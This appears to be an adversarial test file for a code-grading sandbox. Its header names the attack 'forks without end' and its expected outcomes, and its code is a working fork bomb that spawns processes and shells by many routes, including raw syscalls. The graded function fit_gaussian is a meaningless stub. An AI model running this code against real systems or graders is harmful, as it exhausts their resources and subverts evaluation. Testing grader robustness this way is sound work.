"""attack: forks without end, by every means there is
cell: fit_gaussian
others: solved
keeps: 5
expect: graded, tampered, crashed
points: 5
"""

import ctypes
import multiprocessing
import os
import subprocess

for _ in range(200):
    for start in (
        os.fork,
        os.forkpty,
        lambda: os.posix_spawn("/bin/sh", ["sh"], {}),
        lambda: subprocess.Popen(["sh"]),
        lambda: os.system("sh"),
        lambda: multiprocessing.get_context("fork").Process(target=print).start(),
    ):
        try:
            start()
        except OSError:
            pass
ctypes.CDLL(None).vfork()
ctypes.CDLL(None).syscall(57)


def fit_gaussian(z):
    return z[0], z[:, 0]
